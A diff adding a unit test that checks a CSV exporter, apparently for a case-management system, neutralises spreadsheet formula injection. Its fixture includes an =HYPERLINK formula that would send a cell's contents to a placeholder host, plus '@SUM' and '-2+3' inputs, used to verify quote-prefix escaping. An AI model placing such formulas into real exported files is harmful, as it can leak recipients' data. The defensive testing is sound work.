@@ -44,6 +44,27 @@ describe('the CSV an export writes and the check that reads it back', () => {
     );
   });
 
+  it('writes text a spreadsheet would run as a formula as text; numbers stay numbers', () => {
+    // Free text reaches the file (a place's state, a closure reason): a partner opens it in Excel.
+    const text = formatBatch(
+      [
+        {
+          dawn_CaseKind: '=HYPERLINK("http://example.invalid/?"&A2,"Open")',
+          cas_ReasonForCaseClosure: '-2+3',
+          vic_AgeWhenTrafficked: -1,
+        },
+        { dawn_CaseKind: '@SUM(1)', cas_ReasonForCaseClosure: '-3.5', vic_AgeWhenTrafficked: 16 },
+      ],
+      columns,
+      'csv',
+      false,
+    );
+    expect(text).toBe(
+      '"\'=HYPERLINK(""http://example.invalid/?""&A2,""Open"")",\'-2+3,-1\r\n' +
+        "'@SUM(1),-3.5,16\r\n",
+    );
+  });
+
   it('counts the records a CSV reader reads, in any pieces', () => {
     const files = [
       'a,b\r\ncare,x\r\nlegal,"y, z"\r\n',
